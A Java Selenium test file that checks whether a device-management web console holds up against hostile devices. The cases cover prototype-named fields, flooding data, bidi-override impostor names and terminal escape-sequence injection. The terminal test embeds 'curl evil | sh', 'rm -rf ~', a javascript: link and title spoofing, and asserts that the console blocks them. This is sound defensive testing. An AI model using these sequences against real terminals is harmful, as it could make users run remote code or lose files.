package io.cameliotmp.api;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;

import io.cameliotmp.device.IotmpDevice;
import io.cameliotmp.device.ResourceKind;
import io.cameliotmp.test.HeadlessChromium;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.StaleElementReferenceException;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The console in a real headless browser ({@link HeadlessChromium}) against a hostile device: one that chooses its
 * samples, the keys of its descriptions and the bytes of its terminal to break the page or to act in the user's
 * name. Whatever the device sends, the page keeps working and sends the device only what the user typed or chose.
 */
class ConsoleHostileDeviceBrowserTest extends ApiTestSupport {

    /** Numeric fields in each sample of the flooding resource: far more series than a chart can show. */
    private static final int FIELDS = 20_000;
    private static final int SAMPLES = 12;
    /** Resources a device lists, and files in its directory: far more rows than a table shows. */
    private static final int ROWS = 3_000;
    private static final String TITLE = "camel-iotmp console";

    private HeadlessChromium chromium;
    private ChromeDriver browser;
    private WebDriverWait wait;
    /** Holds the descriptions of the device that never answers them, until the test ends. */
    private final java.util.concurrent.CountDownLatch neverAnswered = new java.util.concurrent.CountDownLatch(1);
    private final java.util.concurrent.ExecutorService handlers = java.util.concurrent.Executors.newCachedThreadPool();
    private IotmpDevice silent;

    @BeforeEach
    void startChromium() throws IOException {
        chromium = HeadlessChromium.start(1200, 1400);
        browser = chromium.driver();
        wait = new WebDriverWait(browser, WAIT);
        wait.ignoring(StaleElementReferenceException.class);
        // before the page's own scripts: its uncaught errors, and whatever it writes to the clipboard or opens
        browser.executeCdpCommand("Page.addScriptToEvaluateOnNewDocument", Map.of("source", """
                window.errors = []; window.clipboardWrites = []; window.opened = [];
                window.addEventListener('error', e => window.errors.push(String(e.message)));
                if (navigator.clipboard) {
                    navigator.clipboard.writeText = t => { window.clipboardWrites.push(t); return Promise.resolve(); };
                }
                const execCommand = document.execCommand.bind(document);
                document.execCommand = (command, ...rest) => {
                    window.clipboardWrites.push('execCommand ' + command);
                    return execCommand(command, ...rest);
                };
                window.open = (...args) => { window.opened.push(String(args[0])); return null; };
                """));
    }

    @AfterEach
    void stopChromium() throws IOException {
        neverAnswered.countDown();
        if (chromium != null) {
            chromium.close();
        }
        if (silent != null) {
            silent.close();
        }
        handlers.shutdownNow();
    }

    /**
     * Samples of thousands of numbers (one series each) and a unit of a thousand characters: the chart keeps a few
     * series and a short unit, and goes on counting samples without an error. Before, every number became a series
     * and the chart's extremes were found by spreading all kept points into one call, which throws once they are more
     * than the engine's argument limit: the chart stopped for good after a dozen samples.
     */
    @Test
    void aSampleOfThousandsOfNumbersLeavesTheChartWorking() throws Exception {
        Map<String, Object> flood = new LinkedHashMap<>();
        for (int i = 0; i < FIELDS; i++) {
            flood.put("k" + i, 1);
        }
        flood.put("unit", "u".repeat(1000));
        IotmpDevice device = connect("demo", "dev-1", "secret-1", d -> d.resource("flood").output(() -> flood));
        signInAndPick("dev-1");

        wait.until(ExpectedConditions.elementToBeClickable(
                By.cssSelector("#resources tr[data-resource='flood'] button[data-action='chart']"))).click();
        for (int sample = 1; sample <= SAMPLES; sample++) {
            int expected = sample;
            Awaitility.await("sample " + sample + " charted").atMost(WAIT).until(() -> {
                device.stream("flood");
                return points() >= expected;
            });
        }
        WebElement chart = browser.findElement(By.id("chart"));
        wait.withMessage("the unit described").until(driver -> chart.getDomAttribute("data-unit") != null
                                                               && !chart.getDomAttribute("data-unit").isEmpty());
        wait.withMessage(() -> "the status counts the samples; errors " + errors()).until(driver -> driver
                .findElement(By.id("chart-status")).getText().startsWith(points() + " samples"));
        assertThat(errors()).as("uncaught errors of the page").isEmpty();
        assertThat(Integer.parseInt(chart.getDomAttribute("data-series"))).isBetween(1, 10);
        assertThat(chart.getDomAttribute("data-unit")).hasSizeLessThanOrEqualTo(16);
    }

    /**
     * An input described with a field named {@code __proto__}: the form shows it and sends it as typed. A plain
     * assignment of that name sets an object's prototype instead of a field, and the field was silently dropped.
     */
    @Test
    void aFieldNamedLikeThePrototypeIsSentAsTyped() throws Exception {
        BlockingQueue<Object> configured = new LinkedBlockingQueue<>();
        connect("demo", "dev-1", "secret-1", d -> d.resource("config")
                .input(configured::add, () -> Map.of("__proto__", 3, "constructor", "x", "rate", 5)));
        signInAndPick("dev-1");

        WebElement proto = wait.until(ExpectedConditions.visibilityOfElementLocated(
                By.cssSelector("#resources tr[data-resource='config'] .fields input[name='__proto__']")));
        proto.clear();
        proto.sendKeys("4");
        browser.findElement(By.cssSelector("#resources tr[data-resource='config'] button[data-action='send']"))
                .click();
        Object sent = configured.poll(WAIT.toMillis(), TimeUnit.MILLISECONDS);
        assertThat(sent).isInstanceOfSatisfying(Map.class, config -> {
            assertThat(config).containsOnlyKeys("__proto__", "constructor", "rate");
            assertThat(((Number) config.get("__proto__")).intValue()).isEqualTo(4);
            assertThat(config.get("constructor")).isEqualTo("x");
            assertThat(((Number) config.get("rate")).intValue()).isEqualTo(5);
        });
        assertThat(errors()).isEmpty();
    }

    /**
     * Inputs described with thousands of members: each is its JSON text, not a form of thousands of fields (three
     * such inputs made the page build sixty thousand).
     */
    @Test
    void anInputOfThousandsOfMembersIsItsJsonText() throws Exception {
        Map<String, Object> wide = new LinkedHashMap<>();
        for (int i = 0; i < FIELDS; i++) {
            wide.put("m" + i, i % 2 == 0);
        }
        connect("demo", "dev-1", "secret-1", d -> {
            for (int i = 0; i < 3; i++) {
                d.resource("wide-" + i).input(value -> { }, () -> wide);
            }
        });
        signInAndPick("dev-1");
        for (int i = 0; i < 3; i++) {
            By text = By.cssSelector("#resources tr[data-resource='wide-" + i + "'] input.input");
            wait.withMessage("wide-" + i + " shown as JSON text").until(driver -> driver.findElement(text)
                    .getDomProperty("value").startsWith("{\"m0\":true"));
        }
        assertThat(browser.findElements(By.cssSelector("#resources .fields input"))).isEmpty();
        assertThat(errors()).isEmpty();
    }

    /**
     * A device listing fifty inputs whose descriptions it never answers (its handlers wait on other threads, so the
     * device itself goes on): the console asks for one description at a time, and a read of another device goes
     * through meanwhile. Before, the console asked for all fifty at once; the browser's six connections to the
     * server were all waiting for the device (up to its request timeout each), and the read waited behind them.
     */
    @Test
    void inputsThatAreNeverDescribedLeaveTheConsoleUsable() throws Exception {
        connect("demo", "dev-2", "secret-2", d -> d.resource("status").output(() -> "fine"));
        silent = IotmpDevice.builder().host("127.0.0.1").port(iotmpPort).credentials("demo", "dev-1", "secret-1")
                .handlerExecutor(handlers).noReconnect().build();
        java.util.concurrent.atomic.AtomicInteger asked = new java.util.concurrent.atomic.AtomicInteger();
        for (int i = 0; i < 50; i++) {
            silent.resource("input-" + i).input(value -> { }, () -> {
                asked.incrementAndGet();
                try {
                    neverAnswered.await();
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
                return 0;
            });
        }
        silent.start().toCompletableFuture().get(WAIT.toMillis(), TimeUnit.MILLISECONDS);
        signInAndPick("dev-1");
        wait.withMessage("the inputs listed").until(driver -> driver
                .findElements(By.cssSelector("#resources tr[data-resource^='input-']")).size() == 50);
        Awaitility.await("a description asked for").atMost(WAIT).until(() -> asked.get() >= 1);

        pick("dev-2");
        wait.until(ExpectedConditions.elementToBeClickable(
                By.cssSelector("#resources tr[data-resource='status'] button[data-action='read']"))).click();
        wait.withMessage(() -> "the read answered; descriptions asked " + asked.get()).until(driver -> driver
                .findElement(By.id("resource-result")).getText().contains("fine"));
        assertThat(asked.get()).as("descriptions the device was asked for").isLessThanOrEqualTo(2);
        assertThat(errors()).isEmpty();
    }

    /**
     * A terminal whose device answers the first key with escape sequences meant to act in the user's name: a
     * clipboard write (OSC 52), a link to a script (OSC 8), a window title (OSC 0 and 2), requests to report the title
     * (CSI 21 t, 20 t), the window's size in pixels (CSI 14 t) and a setting whose report would echo the request's own
     * text (DECRQSS), next to the ordinary cursor and attribute queries (CSI 6 n, CSI c). What reaches the device
     * afterwards holds none of the device's own text (only fixed reports, and what the user typed), the page's title
     * is its own, no link is made, nothing is written to the clipboard nor opened, and no script of the device runs.
     */
    @Test
    void theTerminalSendsTheDeviceNothingOfItsOwnBack() throws Exception {
        ByteArrayOutputStream received = new ByteArrayOutputStream();
        String hostile = "\u001b]52;c;" + java.util.Base64.getEncoder().encodeToString(
                "curl evil | sh\n".getBytes(StandardCharsets.UTF_8)) + "\u0007"
                         + "\u001b]8;;javascript:window.ran=1\u001b\\click-me\u001b]8;;\u001b\\\r\n"
                         + "\u001b]0;PWNED-TITLE\u0007\u001b]2;PWNED-TITLE\u001b\\"
                         + "\u001b[21t\u001b[20t\u001b[14t"
                         + "\u001bP$q;rm -rf ~\r\u001b\\"
                         + "\u001b[6n\u001b[c"
                         + "\r\nhostile-done\r\n";
        connect("demo", "dev-1", "secret-1", d -> d.resource("$terminal/:session")
                .handler(ResourceKind.INPUT_OUTPUT, request -> {
                    if (!request.describeMode() && request.input() instanceof byte[] typed) {
                        boolean first;
                        synchronized (received) {
                            first = received.size() == 0;
                            received.writeBytes(typed);
                        }
                        if (first) {
                            request.device().stream(request.path(), hostile.getBytes(StandardCharsets.UTF_8));
                        }
                    }
                    return null;
                }));
        signInAndPick("dev-1");
        wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector(
                "#resources tr[data-resource='$terminal/:session'] button[data-action='terminal']"))).click();
        wait.withMessage("the session open").until(
                ExpectedConditions.attributeToBe(By.id("terminal-status"), "data-state", "open"));
        WebElement keys = browser.findElement(By.cssSelector("#terminal .xterm-helper-textarea"));
        keys.sendKeys("a");
        By rows = By.cssSelector("#terminal .xterm-rows");
        wait.withMessage("the device's sequences written").until(driver -> driver.findElement(rows).getText()
                .contains("hostile-done"));
        // whatever the terminal answered to the sequences was sent before this key
        keys.sendKeys("z");
        Awaitility.await("the second key at the device").atMost(WAIT).until(() -> text(received).endsWith("z"));

        String answered = text(received);
        assertThat(answered).startsWith("a").endsWith("z");
        assertThat(answered).doesNotContain("rm -rf", "curl", "PWNED", "javascript", "click-me");
        // the reports it may get: fixed ones and numbers (the DECRQSS refusal, the cursor and the attributes)
        assertThat(answered.substring(1, answered.length() - 1))
                .matches("(\u001b(P[01]\\$r[0-9;\"pqrm ]*\u001b\\\\|\\[[?>0-9;]*[A-Za-z]))*");
        // the DOM renderer writes a span per cell: the link's first letter
        browser.findElement(By.xpath("(//*[@id='terminal']//div[contains(@class,'xterm-rows')]/div"
                                     + "[starts-with(normalize-space(.),'click-me')]/span)[1]")).click();
        assertThat(browser.getTitle()).isEqualTo(TITLE);
        assertThat(browser.findElements(By.cssSelector("#terminal a"))).isEmpty();
        assertThat(browser.executeScript("return [window.ran === undefined, window.clipboardWrites, window.opened,"
                                         + " location.pathname];"))
                .isEqualTo(List.of(true, List.of(), List.of(), "/console/"));
        assertThat(errors()).isEmpty();
    }

    /**
     * A terminal whose device sends, instead of bytes, a value whose {@code out} is no text (an object with a length):
     * the terminal skips it and goes on writing what comes next. Before, it was handed to xterm.js, which threw in its
     * writing loop and wrote nothing more for the rest of the session.
     */
    @Test
    void aTerminalValueThatIsNoTextLeavesTheTerminalWriting() throws Exception {
        connect("demo", "dev-1", "secret-1", d -> d.resource("$terminal/:session")
                .handler(ResourceKind.INPUT_OUTPUT, request -> {
                    if (!request.describeMode() && request.input() instanceof byte[]) {
                        request.device().stream(request.path(), Map.of("out", Map.of("length", 200_000)));
                        request.device().stream(request.path(),
                                "after-the-value\r\n".getBytes(StandardCharsets.UTF_8));
                    }
                    return null;
                }));
        signInAndPick("dev-1");
        wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector(
                "#resources tr[data-resource='$terminal/:session'] button[data-action='terminal']"))).click();
        wait.withMessage("the session open").until(
                ExpectedConditions.attributeToBe(By.id("terminal-status"), "data-state", "open"));
        browser.findElement(By.cssSelector("#terminal .xterm-helper-textarea")).sendKeys("a");
        wait.withMessage(() -> "the bytes after the value written; errors " + errors()).until(driver -> driver
                .findElement(By.cssSelector("#terminal .xterm-rows")).getText().contains("after-the-value"));
        assertThat(errors()).isEmpty();
    }

    /**
     * A device listing thousands of resources, and a directory of thousands of files: the console shows the first
     * 500 rows of each table and says how many more there are. Before, it built a row for every one, and ten
     * thousand made the page slow.
     */
    @Test
    void thousandsOfRowsAreCutWithTheirCountShown() throws Exception {
        List<Map<String, Object>> entries = new java.util.ArrayList<>();
        for (int i = 0; i < ROWS; i++) {
            entries.add(Map.of("name", String.format("f%05d", i), "type", "file", "size", i, "modified", 1));
        }
        connect("demo", "dev-1", "secret-1", d -> {
            d.resource("$fs/get/*path").handler(ResourceKind.OUTPUT, request -> entries);
            for (int i = 0; i < ROWS; i++) {
                d.resource(String.format("r%05d", i)).output(() -> 1);
            }
        });
        signInAndPick("dev-1");
        By more = By.cssSelector("#resources tr.more");
        wait.withMessage("the resources listed").until(ExpectedConditions.presenceOfElementLocated(more));
        assertThat(browser.findElements(By.cssSelector("#resources tr[data-resource]"))).hasSize(500);
        assertThat(browser.findElement(more).getDomAttribute("data-more")).isEqualTo(String.valueOf(ROWS + 1 - 500));
        assertThat(browser.findElement(more).getText()).startsWith((ROWS + 1 - 500) + " more not shown");

        browser.findElement(By.cssSelector("#resources tr[data-resource='$fs/get/*path'] button[data-action='files']"))
                .click();
        By moreFiles = By.cssSelector("#files tr.more");
        wait.withMessage("the files listed").until(ExpectedConditions.presenceOfElementLocated(moreFiles));
        assertThat(browser.findElements(By.cssSelector("#files tr[data-name]"))).hasSize(500);
        assertThat(browser.findElement(By.cssSelector("#files tr[data-name]")).getDomAttribute("data-name"))
                .isEqualTo("f00000");
        assertThat(browser.findElement(moreFiles).getText()).startsWith((ROWS - 500) + " more not shown");
        assertThat(browser.findElement(By.id("files-status")).getText()).isEqualTo(ROWS + " entries in /tmp");
        assertThat(errors()).isEmpty();
    }

    /**
     * A device's listing with entries that are no objects with a text name (a number, null, a name that is a number):
     * they are left out and counted, the others listed. One such entry threw in the page's sort, and the whole
     * listing was lost.
     */
    @Test
    void unreadableEntriesOfAListingAreLeftOutAndCounted() throws Exception {
        List<Object> entries = new java.util.ArrayList<>();
        entries.add(Map.of("name", "b.txt", "type", "file", "size", 2, "modified", 1));
        entries.add(Map.of("name", 42, "type", "file"));
        entries.add(7);
        entries.add(null);
        entries.add(Map.of("name", "a.txt", "type", "file", "size", 1, "modified", 1));
        connect("demo", "dev-1", "secret-1",
                d -> d.resource("$fs/get/*path").handler(ResourceKind.OUTPUT, request -> entries));
        signInAndPick("dev-1");
        wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector(
                "#resources tr[data-resource='$fs/get/*path'] button[data-action='files']"))).click();
        wait.withMessage("the files listed").until(driver -> driver.findElement(By.id("files-status")).getText()
                .startsWith("2 entries"));
        assertThat(browser.findElement(By.id("files-status")).getText())
                .isEqualTo("2 entries in /tmp, 3 unreadable left out");
        assertThat(browser.findElements(By.cssSelector("#files tr[data-name]"))).extracting(e -> e.getDomAttribute(
                "data-name")).containsExactly("a.txt", "b.txt");
        assertThat(errors()).isEmpty();
    }

    /**
     * Resource names and values with overrides, zero-width and control characters: the console shows each such
     * character as {@code \\uXXXX}, so a device cannot turn round the text shown after its names. Before, they went
     * into the page as they came. A device named {@code \u202E1-ved}, which reads "dev-1" where the override is in
     * force, no longer reaches the list: the server refuses its CONNECT (the page would show it escaped too).
     */
    @Test
    void invisibleCharactersOfADeviceAreShownNotObeyed() throws Exception {
        String impostor = "\u202E1-ved";
        String resource = "abc\u202Edef\u200B\u2066";
        connect("demo", "dev-1", "secret-1", d -> d.resource(resource).output(() -> "x\u202Ey\u0007"));
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> connect("demo", impostor, "secret-rlo",
                d -> d.resource("status").output(() -> "fine")))
                .hasRootCauseInstanceOf(io.cameliotmp.device.IotmpConnectRefusedException.class);
        signInAndPick("dev-1");
        WebElement read = wait.until(driver -> (WebElement) browser.executeScript("return document.querySelector("
                + "'#resources tr[data-resource=\"' + CSS.escape(arguments[0]) + '\"] button[data-action=read]');",
                resource));
        read.click();
        wait.withMessage("the value shown").until(driver -> driver.findElement(By.id("resource-result")).getText()
                .contains("\\u202Ey"));

        assertThat(browser.findElements(By.cssSelector("#devices button"))).hasSize(1);
        assertThat(browser.findElement(By.id("resources")).getText()).contains("abc\\u202Edef\\u200B\\u2066");
        assertThat(browser.findElement(By.id("resource-result")).getText())
                .isEqualTo("abc\\u202Edef\\u200B\\u2066 → \"x\\u202Ey\\u0007\"");
        assertThat(browser.findElement(By.tagName("main")).getText()).doesNotContain("\u202E", "\u200B", "\u2066");
        assertThat(errors()).isEmpty();
    }

    private static String text(ByteArrayOutputStream received) {
        synchronized (received) {
            return received.toString(StandardCharsets.UTF_8);
        }
    }

    private List<?> errors() {
        return (List<?>) browser.executeScript("return window.errors;");
    }

    private int points() {
        return Integer.parseInt(browser.findElement(By.id("chart")).getDomAttribute("data-points"));
    }

    private void signInAndPick(String device) {
        browser.get(uri("/console/").toString());
        browser.findElement(By.id("token")).sendKeys(ALL);
        browser.findElement(By.id("sign-in-button")).click();
        pick(device);
    }

    /** Picks a device in the page as it is (no reload, which would end the page's requests). */
    private void pick(String device) {
        wait.withMessage(device + " listed").until(driver -> {
            driver.findElement(By.cssSelector("#devices button[data-device='" + device + "']")).click();
            return true;
        });
    }
}
